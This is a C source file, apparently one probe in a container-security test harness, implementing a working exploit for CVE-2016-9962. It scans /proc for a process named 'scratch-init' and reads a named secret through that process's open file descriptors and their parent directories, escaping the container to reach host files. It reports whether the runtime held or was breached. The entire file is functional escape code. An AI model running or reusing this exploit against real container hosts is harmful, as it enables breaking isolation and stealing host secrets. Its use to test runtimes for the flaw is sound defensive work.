/* SPDX-License-Identifier: MIT */
/*
 * CVE-2016-9962: reach the host through a container's first process, before it has executed its
 * command: what it has open then is the host's.
 */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* The pid of a scratch-init, or 0. */
static int find(DIR *proc)
{
    char path[300], name[32];
    rewinddir(proc);
    for (struct dirent *entry; (entry = readdir(proc));) {
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        int fd = entry->d_name[0] >= '1' && entry->d_name[0] <= '9' ? open(path, O_RDONLY) : -1;
        if (fd < 0)
            continue;
        ssize_t n = read(fd, name, sizeof name - 1);
        close(fd);
        name[n > 0 ? n : 0] = '\0';
        if (strcmp(name, "scratch-init\n") == 0)
            return (int)strtol(entry->d_name, NULL, 10);
    }
    return 0;
}

/* Below any directory that it has open, or above it. */
static int take(int pid, const char *secret)
{
    static const char *const up[] = {"", "../", "../../"};
    char path[512];
    for (int fd = 3; fd < 16; fd++)
        for (size_t i = 0; i < sizeof up / sizeof *up; i++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d/%s%s", pid, fd, up[i], secret);
            if (attack_print(AT_FDCWD, path) == 0)
                return 0;
        }
    return -1;
}

/* trace SECRET: a name; for as long as it takes three seconds */
int attack_trace(char **argv)
{
    DIR *proc = opendir("/proc");
    time_t end = time(NULL) + 3;
    bool seen = false;
    if (!proc)
        return attack_not_tried("/proc");
    if (write(STDOUT_FILENO, "ready\n", 6) != 6)
        return attack_not_tried("say that it began");
    while (time(NULL) < end) {
        int pid = find(proc);
        seen |= pid > 0;
        if (pid > 0 && take(pid, argv[0]) == 0)
            return ATTACK_OUT;
    }
    errno = EACCES;
    return seen ? attack_held("read its fds") : attack_not_tried("no scratch-init was seen");
}
